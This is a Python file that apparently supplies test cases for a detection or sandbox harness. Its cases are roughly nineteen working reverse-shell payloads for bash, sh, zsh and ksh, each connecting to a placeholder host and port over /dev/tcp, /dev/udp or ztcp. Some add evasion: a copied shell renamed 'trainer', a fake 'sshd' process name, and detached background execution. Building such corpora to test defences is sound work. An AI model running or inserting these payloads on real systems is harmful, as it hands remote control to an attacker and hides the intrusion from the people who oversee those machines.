"""Shells that need nothing but bash (or another shell that can connect) and what every system has."""

from __future__ import annotations

from attacks.cases.base import Case
from live.channels import Transport
from live.programs import Language

CASES = (
    Case(
        name="bash-interactive",
        language=Language.BASH,
        text="exec bash -i &> /dev/tcp/$HOST/$PORT <&1",
    ),
    Case(
        name="bash-exec-descriptor",
        language=Language.BASH,
        text="""
            exec 9<>/dev/tcp/$HOST/$PORT
            sh <&9 >&9 2>&9
        """,
    ),
    Case(
        name="bash-itself-redirected",
        language=Language.BASH,
        text="""
            exec </dev/tcp/$HOST/$PORT >&0 2>&0
            exec bash -s
        """,
    ),
    Case(
        name="bash-in-and-out-apart",
        language=Language.BASH,
        transport=Transport.PAIR,
        text="sh </dev/tcp/$HOST/$PORT >/dev/tcp/$HOST/$PORT2 2>&1",
    ),
    Case(
        name="bash-udp",
        language=Language.BASH,
        transport=Transport.UDP,
        text="sh -i <>/dev/udp/$HOST/$PORT >&0 2>&0",
    ),
    Case(
        name="bash-ipv6",
        language=Language.BASH,
        transport=Transport.TCP6,
        text="bash --norc -i 0<>/dev/tcp/$HOST/$PORT 1>&0 2>&0",
    ),
    Case(
        name="bash-process-substitution",
        language=Language.BASH,
        text="""
            exec {net}<>/dev/tcp/$HOST/$PORT
            bash < <(cat <&$net) > >(cat >&$net) 2>&1
        """,
    ),
    Case(
        name="bash-coprocess",
        language=Language.BASH,
        text="""
            coproc INNER { exec sh 2>&1; }
            exec 5<>/dev/tcp/$HOST/$PORT
            exec 6<&${INNER[0]} 7>&${INNER[1]}
            cat <&6 >&5 &
            cat <&5 >&7
        """,
    ),
    Case(
        name="bash-fifos-and-cats",
        language=Language.BASH,
        text="""
            mkfifo down up
            sh <down >up 2>&1 &
            exec 5<>/dev/tcp/$HOST/$PORT
            cat up >&5 &
            exec cat <&5 >down
        """,
    ),
    Case(
        name="bash-read-loop",
        language=Language.BASH,
        text="""
            exec 6<>/dev/tcp/$HOST/$PORT
            while IFS= read -r order 0<&6; do eval "$order" >&6 2>&6; done
        """,
    ),
    Case(
        name="bash-loop-in-redirected-block",
        language=Language.BASH,
        text="""
            while IFS= read -r order; do
                bash -c "$order; sleep 1.5"
            done <>/dev/tcp/$HOST/$PORT >&0 2>&1
        """,
    ),
    Case(
        name="sh-renamed",
        language=Language.BASH,
        text="""
            cp /bin/sh trainer
            ./trainer --epochs 2>/dev/null
            exec ./trainer -i <>/dev/tcp/$HOST/$PORT 1>&0 2>&0
        """,
    ),
    Case(
        name="bash-other-name-in-argv",
        language=Language.BASH,
        text="(exec -a 'sshd: notebook@pts/4' bash 0<>/dev/tcp/$HOST/$PORT 1>&0 2>&0)",
    ),
    Case(
        name="bash-script-operand-is-pipe",
        language=Language.BASH,
        text="""
            exec 8<>/dev/tcp/$HOST/$PORT
            bash <(cat <&8) >&8 2>&8
        """,
    ),
    Case(
        name="bash-nohup-background",
        language=Language.BASH,
        text="""
            nohup setsid bash -c 'exec 3<>/dev/tcp/$HOST/$PORT; exec sh <&3 1>&3 2>&3' >/dev/null 2>&1 &
            exit 0
        """,
    ),
    Case(
        name="tail-f-as-pipe",
        language=Language.BASH,
        text="""
            : > orders
            exec 5<>/dev/tcp/$HOST/$PORT
            cat <&5 >> orders &
            tail -n +1 -s 0.1 -f orders | sh >&5 2>&1
        """,
    ),
    Case(
        name="script-pty",
        language=Language.BASH,
        programs=("script",),
        text="exec script -qfc 'bash --norc' /dev/null <>/dev/tcp/$HOST/$PORT >&0 2>&0",
    ),
    Case(
        name="zsh-tcp-module",
        language=Language.ZSH,
        text="""
            zmodload zsh/net/tcp
            ztcp $HOST $PORT
            zsh -f <&$REPLY >&$REPLY 2>&$REPLY
        """,
    ),
    Case(
        name="ksh-dev-tcp",
        language=Language.KSH,
        text="exec 4<>/dev/tcp/$HOST/$PORT && ksh93 <&4 >&4 2>&4",
    ),
)
